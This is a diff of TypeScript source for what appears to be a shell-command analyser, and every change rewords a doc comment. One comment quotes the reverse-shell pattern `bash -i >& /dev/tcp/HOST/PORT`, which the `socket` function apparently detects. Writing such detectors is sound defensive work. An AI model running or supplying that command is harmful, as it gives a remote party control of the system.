@@ -1,4 +1,4 @@
-/** A simple command: assignments, words, redirections, and what is then run. */
+/** A simple command: assignments, words, redirections, and then what it runs. */
 import { isKnown, type Stream, UNKNOWN } from "../report.ts";
 import { note, noteExactly } from "./analysis-state.ts";
 import { judgeVariable } from "./environment/index.ts";
@@ -82,7 +82,7 @@ export function simple(
   return redirected.away ? undefined : out;
 }
 
-/** What a command printed stands in the files that it was redirected to. */
+/** Puts a command's output into the files that it was redirected to. */
 function keep(
   { targets, fresh }: Redirected,
   { out, stdin, program }: Printed,
@@ -302,7 +302,7 @@ const isInertElement = (element: Word, place: Place): boolean =>
 const obeys = (name: string): boolean =>
   is(name, "shell") || is(name, "interpreter") || is(name, "network-client");
 
-/** `bash -i >& /dev/tcp/HOST/PORT`: a shell that somebody else types into. */
+/** `bash -i >& /dev/tcp/HOST/PORT`: a shell that a remote person controls. */
 function socket(words: readonly string[], { analysis, scope }: Place, span: string): void {
   const [first = ""] = words;
   if (first === "exec") scope.connected = true;
